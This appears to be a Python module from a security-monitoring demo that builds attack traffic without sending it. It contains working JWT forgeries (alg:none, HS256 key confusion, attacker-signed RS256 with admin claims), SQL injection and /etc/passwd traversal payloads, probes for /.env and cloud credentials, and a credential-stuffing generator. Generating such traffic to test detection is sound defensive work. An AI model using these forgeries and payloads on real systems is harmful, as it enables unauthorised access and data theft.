"""The attack storyline's requests: forged tokens, injection and traversal payloads, scanner probes, stuffing.

Everything here builds requests; nothing sends them (`vigil.demo.traffic` does). The forged tokens are the ones
real attackers try against JWT verifiers: `alg: none`, HS256 keyed with the issuer's public key (alg
confusion), a valid-looking RS256 token signed by the attacker's own key, and a key id nobody published.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
import time
from dataclasses import dataclass, field
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

SCANNER_IP = "203.0.113.66"
INJECTOR_IP = "203.0.113.99"
FORGER_IP = "198.51.100.23"
STUFFER_IP = "192.0.2.45"
REPLAYER_IP = "203.0.113.7"

SCANNER_AGENTS = (
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
)
SCANNER_PATHS = (
    "/.env", "/.git/config", "/wp-login.php", "/admin", "/phpmyadmin/", "/server-status", "/actuator/env",
    "/api/v1/users", "/backup.zip", "/config.json", "/cgi-bin/test.cgi", "/.aws/credentials",
)  # fmt: skip
INJECTIONS = (
    "/api/search?q=' or 1=1--",
    "/api/search?q=shoes' union select username,password from users--",
    "/api/search?q=1' and sleep(5)--",
    "/api/search?q=' or 'a'='a",
)
TRAVERSALS = (
    "/api/files?name=../../../../etc/passwd",
    "/api/files?name=..%2f..%2f..%2fetc%2fshadow",
    "/api/files?name=../config/database.yml",
)
ATTACKER_AGENT = "python-requests/2.31.0"


@dataclass(frozen=True)
class Call:
    """One HTTP request of the storyline, from one source address (sent as X-Forwarded-For)."""

    phase: str
    method: str
    path: str
    source_ip: str
    user_agent: str
    token: str | None = None
    raw_authorization: str | None = None
    form: dict[str, str] | None = None
    basic: tuple[str, str] | None = None
    via_issuer: bool = False
    tags: tuple[str, ...] = field(default_factory=tuple)


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _segment(value: dict[str, Any]) -> str:
    return _b64(json.dumps(value, separators=(",", ":")).encode())


def stolen_claims(issuer: str, audience: str, client_id: str, *, now: float | None = None) -> dict[str, Any]:
    """Claims an attacker would copy from a real token, with the write scope added."""
    issued = int(now if now is not None else time.time())
    return {
        "iss": issuer,
        "aud": audience,
        "sub": client_id,
        "client_id": client_id,
        "scope": "orders:read orders:write",
        "iat": issued,
        "exp": issued + 600,
        "jti": secrets.token_hex(16),
    }


def alg_none_token(claims: dict[str, Any]) -> str:
    return f"{_segment({'alg': 'none', 'typ': 'at+jwt'})}.{_segment(claims)}."


def hs256_confusion_token(claims: dict[str, Any], kid: str, public_pem: bytes) -> str:
    """HS256 keyed with the issuer's public key: accepted by a verifier that trusts the token's `alg`."""
    signing_input = f"{_segment({'alg': 'HS256', 'typ': 'at+jwt', 'kid': kid})}.{_segment(claims)}"
    signature = hmac.new(public_pem, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{_b64(signature)}"


def attacker_signed_token(claims: dict[str, Any], kid: str) -> str:
    """RS256 with a key the attacker made: a published `kid` gives `bad_signature`, another `unknown_kid`."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return jwt.encode(claims, key, algorithm="RS256", headers={"kid": kid, "typ": "at+jwt"})


def public_pem(jwk: dict[str, Any]) -> bytes:
    key = jwt.PyJWK(jwk).key
    return bytes(key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))


def scanner_calls() -> list[Call]:
    return [
        Call("scanner", "GET", path, SCANNER_IP, SCANNER_AGENTS[i % len(SCANNER_AGENTS)])
        for i, path in enumerate(SCANNER_PATHS * 2)
    ]


def injection_calls(stolen_token: str) -> list[Call]:
    """Payloads sent with a valid (stolen) token: the edge lets them through and the storefront fails on them."""
    return [
        Call("injection", "GET", path, INJECTOR_IP, ATTACKER_AGENT, token=stolen_token, tags=("payload",))
        for path in (*INJECTIONS, *TRAVERSALS)
    ]


def forgery_calls(issuer: str, audience: str, client_id: str, jwks: dict[str, Any]) -> list[Call]:
    keys = jwks.get("keys") or []
    if not keys:
        raise ValueError("the issuer publishes no key")
    jwk = keys[0]
    kid = str(jwk.get("kid", ""))
    pem = public_pem(jwk)
    tokens = [
        alg_none_token(stolen_claims(issuer, audience, client_id)),
        hs256_confusion_token(stolen_claims(issuer, audience, client_id), kid, pem),
        hs256_confusion_token(stolen_claims(issuer, audience, "admin"), kid, pem),
        attacker_signed_token(stolen_claims(issuer, audience, client_id), kid),
        attacker_signed_token(stolen_claims(issuer, audience, "admin"), kid),
        attacker_signed_token(stolen_claims(issuer, audience, client_id), f"{kid[:8]}-rotated"),
        alg_none_token(stolen_claims(issuer, audience, "admin")),
    ]
    return [
        Call("forgery", "GET", "/api/orders", FORGER_IP, ATTACKER_AGENT, token=token, tags=("forged",))
        for token in tokens
    ]


def stuffing_calls(client_ids: list[str]) -> list[Call]:
    """One source trying leaked secrets against many client ids at the token endpoint."""
    guessed = [*client_ids[:6], "storefront-admin", "backoffice", "mobile-ios", "partner-api"]
    return [
        Call(
            "stuffing",
            "POST",
            "/oauth/token",
            STUFFER_IP,
            "curl/8.5.0",
            form={"grant_type": "client_credentials"},
            basic=(client_id, secrets.token_urlsafe(24)),
            via_issuer=True,
        )
        for client_id in guessed
    ]
